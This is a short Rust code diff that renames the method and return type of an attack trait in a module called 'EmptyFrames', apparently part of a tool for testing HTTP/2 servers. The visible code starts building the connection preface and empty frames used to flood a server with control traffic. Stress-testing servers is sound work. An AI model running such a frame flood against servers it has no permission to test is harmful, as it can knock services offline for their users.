@@ -1,6 +1,6 @@
 //! Pings, settings and priorities without end.
 
-use crate::attack::{Attack, Target, Waging};
+use crate::attack::{Attack, AttackFuture, Target};
 
 #[derive(Debug)]
 pub(crate) struct EmptyFrames;
@@ -10,7 +10,7 @@ impl Attack for EmptyFrames {
         "empty frames"
     }
 
-    fn wage<'a>(&'a self, target: &'a Target) -> Waging<'a> {
+    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
         Box::pin(async move {
             let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
             bytes.extend_from_slice(&[0, 0, 0, 4, 0, 0, 0, 0, 0]);
